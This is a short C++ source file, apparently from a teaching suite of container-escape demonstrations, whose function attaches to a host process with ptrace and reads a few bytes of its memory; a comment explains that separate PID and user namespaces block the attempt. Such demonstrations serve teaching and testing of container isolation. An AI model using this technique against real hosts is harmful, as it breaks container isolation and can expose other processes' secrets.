// ptrace-host: the memory of a host's process.
//
// ptrace(2) takes a process number, and rights over the process. In a PID namespace of its own a
// container has no number for it; in a user namespace of its own it has no rights.
#include "sys/reach.hpp"
#include "teach/escapes/escapes.hpp"

namespace teach {

sys::Result<std::string> ptrace_host(const Prey& prey) {
    constexpr std::size_t kWord = 15;
    TRY(sys::ptrace_seize(prey.process));
    return sys::read_memory(prey.process, prey.address, kWord);
}

} // namespace teach
